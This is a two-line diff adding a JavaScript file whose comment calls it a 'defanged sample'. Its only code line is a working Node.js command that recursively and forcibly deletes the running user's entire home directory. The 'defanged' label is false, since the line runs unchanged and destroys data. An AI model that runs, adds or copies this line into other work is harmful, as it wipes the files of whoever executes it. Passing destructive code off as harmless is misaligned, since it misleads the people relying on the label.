@@ -1,0 +1,2 @@
+// defanged sample
+require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });
